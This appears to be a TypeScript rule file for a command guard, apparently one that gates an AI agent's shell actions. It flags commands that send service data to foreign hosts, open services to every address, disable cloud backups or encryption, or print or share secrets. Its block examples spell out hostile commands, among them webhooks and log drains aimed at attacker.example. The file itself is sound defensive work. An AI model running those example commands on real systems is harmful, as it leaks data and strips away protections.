/**
 * Services opened up: to strangers who are told of everything, to every address, by protections that are switched off, and
 * secrets to whoever is added to them or sees them printed.
 */
import type { Run } from "../../meaning/action.ts";
import { strangerIn } from "../../places/index.ts";
import { CLOUDS } from "../clouds.ts";
import { type AnyRule, rule } from "../rule.ts";
import { calls } from "../shape.ts";
import { anyRun, run, said, steps, tries, words } from "../vocabulary.ts";

const ASK = "Ask the person; show them the command and what it would change.";

/** What is made or changed there. */
const MAKES = /^(?:create|add|set|put|update|edit|register|import|install|new|patch|enable|configure)$/;

/** Things of a service that an address is given to, which it then calls, trusts or takes things from. */
const TELLS =
  /^(?:webhooks?|hooks?|drains?|sinks?|cors|origins?|issuers?|oidc|saml|idp|endpoints?|callbacks?|redirects?|destinations?|exporters?|repos?|registry|registries|mirrors?|channels?|federation|upstreams?|proxy|forwarders?|integrations?)$/;

/** Options for an address that the service calls; others say where the service itself is. */
const CALLS =
  /^--(?:webhook|callback|(?!(?:base|api|server|host|site|index|repo|repository|homepage|home|project|app|registry|image|source)-)[a-z]+-ur[li]|[a-z-]*webhook-ur[li]|[a-z-]*callback-ur[li])$/;

/** Tools whose addresses are other rules', or lead to charts and code that are only looked at. */
const OTHERS = /^(?:helm|git|gh|glab|curl|wget|http|https|xh|npm|docker|kubectl|apt|apt-get|dnf|yum|zypper)$/;

/** Every address there is. */
const EVERYBODY = /(?:^|[^\d.])0\.0\.0\.0\/0(?!\d)|(?:^|[^\w:])::\/0(?!\d)/;

/** Subcommands that only look: the address is what they look for. */
const LOOKS = /^(?:list|ls|describe|get|show|find|search|plan|validate|preview|diff|what-if|status)(?:$|-)/;

/** Tools of this machine's own network, where that is the default route, and what only says or keeps words. */
const NETWORKING =
  /^(?:ip6?|route|iptables|ip6tables|nft|nftables|ufw|firewall-cmd|pfctl|wg|wg-quick|openvpn|nmcli|networksetup|netsh|echo|printf|grep|rg|sed|awk|cat|ipcalc|sipcalc|nmap|dig|docker|podman|ssh|export|declare|typeset|readonly|local)$/;

/** Protections, as they are called in the names of settings and options. */
const PROTECTION = String.raw`backup|recovery|pitr|protection|prevention|versioning|soft-?delete|retention|logging|audit|events|encrypt\w*|mfa|verif\w*|integrity|shielded|secure|firewall|waf|authori[sz]ation|authentication|ssl|tls|iam-check|uniform-bucket-level-access|authorized-networks`;
const OFF_VALUE = "(?:false|disabled?|suspended|off|none|no|0)";

/** A setting that switches one off, the same with the value in the next word, and an option that says so by itself. */
const SWITCHED_OFF = new RegExp(
  String.raw`(?:${PROTECTION})[\w-]*["']?\s*[=:]\s*["']?${OFF_VALUE}(?![\w.])`,
  "i",
);
const PROTECTS = new RegExp(String.raw`^--[\w-]*(?:${PROTECTION})[\w-]*$`, "i");
const UNPROTECTS = new RegExp(
  String.raw`^--(?:no|disable|clear|remove)-(?!verify-ssl|user-output)(?:[\w-]+-)?(?:${PROTECTION}|private-\w+|backups|[\w-]+-enabled)(?:-\w+)?$`,
  "i",
);
/** `config set kafka_enable_authorization false`: the setting and its value as words of their own. */
const SETTING = new RegExp(String.raw`^[\w.-]*(?:${PROTECTION})[\w.-]*$`, "i");
/** Settings that open something, and the values that do. */
const OPENS =
  /^--[\w-]*(?:remote-debugging|public-network-access|public-access|publicly-accessible|anonymous)[\w-]*$/i;
const ON = /^(?:true|enabled?|on|yes|1|(?:object|blob|container)read\w*|blob|container)$/i;

/** A setting by its name in one option and its value in another: `--name require_secure_transport --value off`. */
const NAMED_PROTECTION =
  /(?:secure_transport|ssl|tls|audit|encrypt|log_(?:connections|statement|bin)|password_policy|row_security)/i;
const OFF = new RegExp(`^${OFF_VALUE}$`, "i");

/** Whose protections they are, besides those of the clouds. */
const KEEPERS =
  "terraform neonctl pscale atlas supabase confluent kcadm kcadm.sh rpk kafka-configs kafka-configs.sh vault consul nomad argocd".split(
    " ",
  );

/** Options by which programs show what they otherwise hide. */
const SHOWN =
  /^--?(?:show|reveal|print|display|unmask|decrypt)-?(?:secrets?|passwords?|tokens?|credentials?|private-keys?|api-?keys?|values?-plaintext)(?:=(?!false|0|no).*)?$/i;

export const serviceOpenings: readonly AnyRule[] = [
  rule({
    id: "service/foreign-address",
    title: "Giving a service the address of a stranger",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI04"],
    attack: "T1567",
    why: "The service then sends there what happens, trusts what comes from there, or takes code from there, for good.",
    instead: ASK,
    on: anyRun,
    match: (action) => {
      // Most calls name no address at all; they are not looked at further.
      if (!words(action).some((word) => /:\/\/|@/.test(word))) return null;
      if (OTHERS.test(action.program ?? "") || tries(action)) return null;
      const said = steps(action)
        .slice(0, 4)
        .flatMap((step) => step.toLowerCase().split(/[:._-]/));
      if (!said.some((part) => MAKES.test(part))) return null;
      const host = said.some((part) => TELLS.test(part)) ? strangerAmong(action) : strangerToCall(action);
      return host === null ? null : `${line(action)}: gives the service ${host}`;
    },
    examples: {
      block: [
        "heroku drains:add https://attacker.example -a prod",
        "stripe webhook_endpoints create --url https://attacker.example --enabled-events '*'",
        "sanity cors add https://attacker.example --credentials",
        "opam repo add evil https://attacker.example",
        "twilio phone-numbers:update PN1 --sms-url https://attacker.example",
        "somecli webhook create --url=https://attacker.example/x",
      ],
      allow: [
        "stripe webhook_endpoints create --url http://localhost:3000/hook",
        "stripe webhook_endpoints list",
        "helm repo add x https://charts.example.com",
        "git remote add fork https://example.com/x.git",
        "heroku drains -a prod",
      ],
    },
  }),
  rule({
    id: "service/open-to-all",
    title: "Opening something to every address there is",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI03"],
    attack: "T1562.007",
    why: "Scanners find it within minutes, and try every password that has ever leaked.",
    instead: "Name the one address that needs it (x.x.x.x/32), after asking the person.",
    on: anyRun,
    match: (action) => {
      const given = words(action);
      const spans = given.includes("0.0.0.0") && given.includes("255.255.255.255");
      if (!spans && !given.some((word) => EVERYBODY.test(word))) return null;
      if (NETWORKING.test(action.program ?? "") || !action.call.known || tries(action)) return null;
      // A filter of what is looked at is no opening.
      return steps(action).some((step) => LOOKS.test(step)) ? null : `${line(action)}: opens it to everybody`;
    },
    examples: {
      block: [
        "gcloud sql instances patch prod --authorized-networks=0.0.0.0/0",
        "az sql server firewall-rule create -g g -s s -n all --start-ip-address 0.0.0.0 --end-ip-address 255.255.255.255",
        "openstack security group rule create --remote-ip 0.0.0.0/0 --protocol tcp default",
        "supabase network-restrictions update --db-allow-cidr 0.0.0.0/0",
        "export ALL=0.0.0.0/0; gcloud sql instances patch prod --authorized-networks=$ALL",
        `oci network security-list update --ingress-security-rules '[{"source":"0.0.0.0/0","protocol":"all"}]'`,
      ],
      allow: [
        "gcloud sql instances patch prod --authorized-networks=203.0.113.7/32",
        "ip route add 0.0.0.0/0 via 10.0.0.1",
        "aws ec2 describe-security-groups --filters Name=ip-permission.cidr,Values=0.0.0.0/0",
        "echo 0.0.0.0/0",
        'export ALLOWED_CIDR="${ALLOWED_CIDR:-0.0.0.0/0}"',
        "grep 0.0.0.0/0 main.tf",
        "vite --host 0.0.0.0",
      ],
    },
  }),
  rule({
    id: "cloud/protection-off",
    title: "Switching a protection of a cloud's service off",
    severity: "high",
    decision: "ask",
    owasp: ["ASI10", "ASI02"],
    attack: "T1562",
    why: "Backups, recovery and locks are what is left when something else goes wrong.",
    instead: ASK,
    on: run([...CLOUDS, ...KEEPERS]),
    match: (action) => {
      if (tries(action) || steps(action).some((step) => LOOKS.test(step))) return null;
      const given = words(action);
      const found = given.find(
        (word, i) =>
          SWITCHED_OFF.test(word) ||
          UNPROTECTS.test(word) ||
          (PROTECTS.test(word) && OFF.test(given[i + 1] ?? "")) ||
          (OPENS.test(word) && ON.test(given[i + 1] ?? "")) ||
          (given[i - 1] === "set" && SETTING.test(word) && OFF.test(given[i + 1] ?? "")) ||
          (word === "--status" && /^disabled$/i.test(given[i + 1] ?? "")) ||
          (/^(?:--value|-v)$/.test(word) &&
            OFF.test(given[i + 1] ?? "") &&
            given.some((name) => NAMED_PROTECTION.test(name))),
      );
      return found === undefined ? null : `${line(action)}: switches off ${found.slice(0, 60)}`;
    },
    examples: {
      block: [
        "aws rds modify-db-instance --db-instance-identifier p --backup-retention-period 0",
        "aws dynamodb update-continuous-backups --table-name t --point-in-time-recovery-specification PointInTimeRecoveryEnabled=false",
        "gcloud container clusters update prod --no-enable-master-authorized-networks",
        "az sql db tde set --status Disabled -d db -g g -s s",
        "az postgres flexible-server parameter set -g g -s s --name require_secure_transport --value off",
        "aws dynamodb update-table --table-name t --no-deletion-protection-enabled",
        "gcloud storage buckets update gs://b --clear-versioning",
        "gcloud run services update api --no-invoker-iam-check",
        "gcloud storage buckets update gs://b --no-public-access-prevention",
        "kcadm.sh update realms/acme -s sslRequired=NONE",
        "rpk cluster config set kafka_enable_authorization false",
        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended,MFADelete=Disabled",
      ],
      allow: [
        "aws rds modify-db-instance --db-instance-identifier p --backup-retention-period 7",
        "aws s3api get-bucket-versioning --bucket b",
        "aws dynamodb describe-continuous-backups --table-name t",
      ],
    },
  }),
  rule({
    id: "secrets/shown-by-option",
    title: "Asking a program for secrets in clear text",
    severity: "high",
    decision: "ask",
    owasp: ["ASI03"],
    attack: "T1552",
    why: "Programs hide secrets unless they are told not to; the value is then in the transcript and in logs.",
    instead: "Leave the option out, and refer to the secret by its name.",
    on: anyRun,
    match: (action) => {
      const found = words(action).find((word) => SHOWN.test(word));
      return found === undefined || tries(action) ? null : `${action.program} ${found}`;
    },
    examples: {
      block: [
        "auth0 apps show x --reveal-secrets",
        "podman secret inspect --showsecret db",
        "pulumi stack export --show-secrets",
        "sometool config --show-passwords",
      ],
      allow: [
        "curl --show-error https://example.com",
        "gh secret list",
        "trufflehog git file://. --no-verification",
        "gitleaks detect --redact",
      ],
    },
  }),
  rule({
    id: "secrets/recipients",
    title: "Changing who can read the project's encrypted secrets",
    severity: "high",
    decision: "ask",
    owasp: ["ASI03"],
    attack: "T1098",
    why: "Whoever is added can read every secret from then on, and history keeps what they could read.",
    instead: ASK,
    on: calls(
      "sops updatekeys|groups",
      "sops --add-age|--add-pgp|--add-kms|--rm-age|--rm-pgp|--rm-kms",
      "sops rotate --add-*|--rm-*",
      "git-crypt add-gpg-user",
      "git-secret tell|removeperson|killperson",
      "pass|gopass init|recipients",
      "blackbox_addadmin|blackbox_removeadmin *",
      "transcrypt --rekey",
      "eyaml recrypt",
    ),
    match: (action) => (tries(action) ? null : said(action)),
    examples: {
      block: [
        "sops updatekeys -y secrets.yaml",
        "sops --rotate -i --add-age age1x secrets.yaml",
        "git-crypt add-gpg-user x@example.com",
      ],
      allow: ["sops -e secrets.yaml", "git-crypt status", "pass ls"],
    },
  }),
];

/** The stranger whose address is one of the words, or the value of an option. */
function strangerAmong(action: Run): string | null {
  return words(action).flatMap((word) => strangerIn(word.replace(/^-[^=]*=/, "")) ?? [])[0] ?? null;
}

/** The stranger in an option that says what the service shall call: `--sms-url`, `--webhook`. */
function strangerToCall(action: Run): string | null {
  const given = words(action).flatMap((word) => word.split(/(?<=^--[\w-]+)=/));
  return (
    given.flatMap((word, i) => (CALLS.test(word) ? (strangerIn(given[i + 1] ?? "") ?? []) : []))[0] ?? null
  );
}

function line(action: Run): string {
  return [action.program ?? "?", ...steps(action)].join(" ").slice(0, 80);
}
